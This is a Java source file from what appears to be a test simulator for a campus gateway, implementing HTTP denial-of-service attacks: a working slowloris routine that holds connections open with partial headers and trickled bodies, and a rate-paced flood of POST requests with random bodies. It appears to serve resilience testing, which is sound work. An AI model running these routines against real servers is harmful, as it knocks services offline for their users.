package org.campusedge.simulators.attack;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import java.util.concurrent.CopyOnWriteArrayList;
import org.campusedge.simulators.net.HttpWire;

/** Attacks on the HTTP ports (the devices' port, the console): slow senders, floods of bad posts. */
public final class HttpAttacks {

    private HttpAttacks() {
    }

    /**
     * Slow senders (slowloris): {@code connections} requests, spread over {@code sources}, that send
     * their headers and a few bytes of a declared 8 KiB body (within every limit, so the server has
     * to wait for it), then one more byte every two seconds, for as long as the attack runs;
     * connections the server closes are opened again. Half of them send their headers slowly
     * instead, a byte at a time.
     */
    public static Attack slowRequests(String name, List<InetAddress> sources, InetSocketAddress target, String path,
                                      int connections) {
        List<Socket> open = new CopyOnWriteArrayList<>();
        return new Attack(name) {
            @Override
            protected void loop(int thread) throws Exception {
                Socket[] slots = new Socket[connections];
                while (running) {
                    for (int i = 0; i < connections && running; i++) {
                        Socket s = slots[i];
                        try {
                            if (s == null || s.isClosed()) {
                                s = new Socket();
                                s.bind(new InetSocketAddress(sources.get(i % sources.size()), 0));
                                s.connect(target, 2000);
                                slots[i] = s;
                                open.add(s);
                                s.getOutputStream().write((i % 2 == 0 ? "POST " + path + " HTTP/1.1\r\nHost: gateway\r\n"
                                        + "Content-Type: application/xml\r\nContent-Length: 8192\r\n\r\n<Event"
                                        : "POST " + path + " HTTP/1.1\r\nHo").getBytes(StandardCharsets.US_ASCII));
                                count("opened");
                            } else {
                                s.getOutputStream().write(' ');
                                count("trickled");
                            }
                        } catch (IOException e) {
                            count(s == null || !s.isConnected() ? "connect refused/failed" : "closed by the gateway");
                            if (s != null) {
                                open.remove(s);
                                s.close();
                            }
                            slots[i] = null;
                        }
                    }
                    Thread.sleep(2000);
                }
            }

            @Override
            protected void release() {
                for (Socket s : open) {
                    try {
                        s.close();
                    } catch (IOException e) {
                        // gone already
                    }
                }
            }
        };
    }

    /**
     * Posts at {@code perSecond}, each on its own connection, with a body made by {@code body} and a
     * content type, to the paths given in turn; counts the statuses. {@code chunked} sends the body
     * without a length.
     */
    public static Attack posts(String name, InetAddress source, InetSocketAddress target, List<String> paths, String contentType,
                               BodyMaker body, boolean chunked, double perSecond, int threads) {
        return new Attack(name) {
            @Override
            protected int threads() {
                return threads;
            }

            @Override
            protected void loop(int thread) throws Exception {
                long start = System.nanoTime();
                for (long n = 0; running; n++) {
                    pace(start, n, perSecond / threads);
                    String status = post(source, target, paths.get((int) ((n * threads + thread) % paths.size())), contentType,
                            body.body(n), chunked);
                    count(status);
                }
            }
        };
    }

    /** Makes the n-th body of a flood. */
    @FunctionalInterface
    public interface BodyMaker {
        byte[] body(long n);
    }

    /** Random bytes of the given size. */
    public static BodyMaker randomBytes(int size) {
        Random r = new Random(3);
        return n -> {
            byte[] b = new byte[size];
            synchronized (r) {
                r.nextBytes(b);
            }
            return b;
        };
    }

    /**
     * One POST on a fresh connection from {@code source}; the status code, or what went wrong
     * ("reset", "timeout", "refused", "closed without an answer").
     */
    public static String post(InetAddress source, InetSocketAddress target, String path, String contentType, byte[] body,
                              boolean chunked) {
        try {
            return Integer.toString(HttpWire.post(source, java.net.URI.create("http://127.0.0.1:" + target.getPort() + path), contentType,
                    body, chunked, java.time.Duration.ofSeconds(10)).status());
        } catch (SocketTimeoutException e) {
            return "timeout";
        } catch (IOException e) {
            String m = String.valueOf(e.getMessage());
            return m.contains("refused") ? "refused" : m.contains("closed without") ? "closed without an answer" : "reset";
        }
    }
}
